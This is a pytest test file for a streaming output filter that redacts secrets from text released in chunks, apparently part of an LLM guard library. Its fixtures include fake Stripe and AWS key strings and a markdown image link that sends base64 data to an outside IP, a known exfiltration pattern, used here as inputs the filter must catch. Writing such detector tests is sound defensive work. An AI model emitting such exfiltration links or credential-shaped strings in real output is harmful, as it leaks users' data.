"""The stream gate: whatever the pieces, out comes what the Shield lets pass of the whole."""

from __future__ import annotations

import asyncio
import base64
import random
import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rune_core import Shield, ShieldBlockedError
from rune_core.gate import MAX_HELD, StreamGate

STRIPE = "sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dc"
AWS = "AKIA" + "Q3EGWYX2ZL5KTB7D"
PIXEL = "![x](http://" + "203.0.113.9/p?d=c2VjcmV0)"
SECRETS = [STRIPE, AWS, PIXEL]
PROSE = (
    "The quarterly report shows that revenue grew by nine percent, mostly in Europe. It's a key "
    "driver (see https://example.org/reports/2024/q3?view=full for details), and the team will "
    "meet our partners in March.\n\nYou can reset your password under Settings > Security; if the "
    "token expires, request a new one.\n\n```python\ndef add(a, b):\n    return a + b\n```\n\n"
    "- I am at it as of now.\n- Let me know if you need anything else! Ünïcode 日本語 too.\n"
)
BLOCKING = """
version: "1.0"
rules:
  - name: no-secrets
    scanner: secret_exposure
    surface: output
    threshold: 0.7
    action: block
"""


@pytest.fixture(scope="module")
def shield() -> Shield:
    return Shield()


@pytest.fixture(scope="module")
def strict() -> Shield:
    return Shield(policy=BLOCKING, on_block="replace")


def chunked(text: str, seed: int, longest: int = 12) -> list[str]:
    pick = random.Random(seed)
    pieces: list[str] = []
    while text:
        size = pick.randint(1, longest)
        pieces.append(text[:size])
        text = text[size:]
    return pieces


def through(gate: StreamGate, pieces: list[str]) -> str:
    return "".join([*(gate.push(piece) for piece in pieces), gate.finish()])


@settings(max_examples=60, deadline=None)
@given(
    parts=st.lists(st.sampled_from([*SECRETS, *PROSE.split("\n\n"), "ok", "a b c"]), max_size=8),
    seed=st.integers(0, 10_000),
    longest=st.integers(1, 60),
)
def test_pieces_do_not_matter(shield: Shield, parts: list[str], seed: int, longest: int) -> None:
    text = " ".join(parts)
    whole = shield.guard_text("output", text).text_to_use
    gate = StreamGate(shield)
    assert through(gate, chunked(text, seed, longest)) == whole


@settings(max_examples=40, deadline=None)
@given(text=st.text(max_size=300), seed=st.integers(0, 1000))
def test_any_text_comes_out_whole_and_in_order(shield: Shield, text: str, seed: int) -> None:
    if shield.scan_output(text).sanitized_content is None:
        assert through(StreamGate(shield), chunked(text, seed)) == text


def test_prose_is_released_as_it_comes(shield: Shield) -> None:
    gate = StreamGate(shield)
    held = []
    out = ""
    for piece in chunked(PROSE * 5, 3, 6):
        out += gate.push(piece)
        held.append(gate.held)
    out += gate.finish()
    assert out == PROSE * 5
    held.sort()
    assert held[int(len(held) * 0.95)] <= 96
    assert held[len(held) // 2] <= 24


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize("longest", [1, 4, 200])
def test_no_piece_of_a_secret_is_shown(shield: Shield, secret: str, longest: int) -> None:
    gate = StreamGate(shield)
    shown = ""
    for piece in chunked(f"Here it is: {secret} and so on. {PROSE}", 5, longest):
        shown += gate.push(piece)
        assert secret[8:20] not in shown
    assert secret[8:20] not in shown + gate.finish()
    assert gate.result is not None
    assert gate.result.action == "redact"


def test_an_encoded_secret_is_held_and_cut(shield: Shield) -> None:
    blob = base64.b64encode(f"the key is {STRIPE}".encode()).decode()
    text = f"Decode this: {blob} and use it."
    assert shield.scan_output(text).sanitized_content is not None
    assert blob[10:40] not in through(StreamGate(shield), chunked(text, 2, 5))


def test_a_value_is_cut_that_only_its_name_gives_away(shield: Shield) -> None:
    text = "Set api_key = " + "'9f8a7b6c5d4e3f2a" + "1b0c9d8e7f6a5b4c' " + "there, then go on."
    whole = shield.guard_text("output", text).text_to_use
    assert whole != text
    assert through(StreamGate(shield), list(text)) == whole


def test_a_long_match_is_held_to_its_end(shield: Shield) -> None:
    pick = random.Random(4)
    alphabet = string.ascii_letters + string.digits + "+/"
    body = "\n".join("".join(pick.choices(alphabet, k=64)) for _ in range(20))
    name = "RSA PRIVATE" + " KEY"
    text = f"Use this:\n-----BEGIN {name}-----\n{body}\n-----END {name}-----\nDone."
    out = through(StreamGate(shield), chunked(text, 1, 20))
    assert out == shield.guard_text("output", text).text_to_use
    assert not any(line in out for line in body.splitlines())


def test_memory_is_bounded(shield: Shield) -> None:
    gate = StreamGate(shield)
    out = 0
    for _ in range(40):
        out += len(gate.push("QUJD" * 250))
        assert gate.held <= MAX_HELD + 1000
    assert out + len(gate.finish()) == 40_000


def test_once_stopped_nothing_more_is_released(strict: Shield) -> None:
    gate = StreamGate(strict)
    out = through(gate, chunked(f"Before. {STRIPE} After, at length. {PROSE}", 4))
    assert gate.stopped
    assert out.startswith("Before.")
    assert "stopped by policy" in out
    assert "After" not in out
    assert gate.held == 0
    assert gate.push("more") == ""


def test_raise_raises_and_stays_shut() -> None:
    with Shield(policy=BLOCKING, on_block="raise") as shield:
        gate = StreamGate(shield)
        with pytest.raises(ShieldBlockedError):
            through(gate, chunked(f"It is {STRIPE} indeed.", 1))
        assert gate.stopped
        assert gate.push("more") + gate.finish() == ""


def test_log_lets_everything_pass() -> None:
    with Shield(policy=BLOCKING, on_block="log") as shield:
        text = f"It is {AWS} indeed."
        gate = StreamGate(shield)
        out = through(gate, chunked(text, 1))
        assert not gate.stopped
        assert out == shield.guard_text("output", text).text_to_use


def test_async_is_the_same_machine(shield: Shield) -> None:
    text = f"{PROSE}{STRIPE} {PROSE}"

    async def run() -> list[str]:
        gate = StreamGate(shield)
        return [*[await gate.apush(p) for p in chunked(text, 9)], await gate.afinish()]

    gate = StreamGate(shield)
    assert asyncio.run(run()) == [*[gate.push(p) for p in chunked(text, 9)], gate.finish()]


def test_json_stays_json_when_held_whole() -> None:
    import json

    with Shield() as shield:
        text = json.dumps({"note": f"key {STRIPE}", "n": 3})
        gate = StreamGate(shield, whole=True)
        pieces = chunked(text, 8)
        assert all(gate.push(piece) == "" for piece in pieces)
        assert json.loads(gate.finish()) == {"note": "key [SECRET]", "n": 3}


def test_what_else_may_act_is_asked_at_the_ends_of_sentences() -> None:
    class Suspicious:
        name = "suspicious"

        def scan(self, text: str, context: object) -> list[object]:
            from rune_scanner import Finding, Severity, Span, Surface, Threat

            at = text.find("zebra crossing")
            if at < 0:
                return []
            return [
                Finding(
                    rule_id="suspicious",
                    threat=Threat.SECRET_EXPOSURE,
                    severity=Severity.HIGH,
                    confidence=0.9,
                    span=Span(at, at + 14),
                    surface=Surface.OUTPUT,
                )
            ]

    class Plugin:
        from rune_core.hookspecs import hookimpl

        @hookimpl
        def rune_scanners(self) -> list[object]:
            return [Suspicious()]

    with Shield(plugins=[Plugin()]) as shield:
        out = through(StreamGate(shield), list("See the zebra crossing there. And go on."))
        assert "zebra" not in out
        assert out.endswith("And go on.")


def test_a_stream_is_recorded(shield: Shield) -> None:
    before = shield.stats.scans_by_surface.get("output", 0)
    through(StreamGate(shield), chunked(PROSE, 1))
    assert shield.stats.scans_by_surface["output"] == before + 1
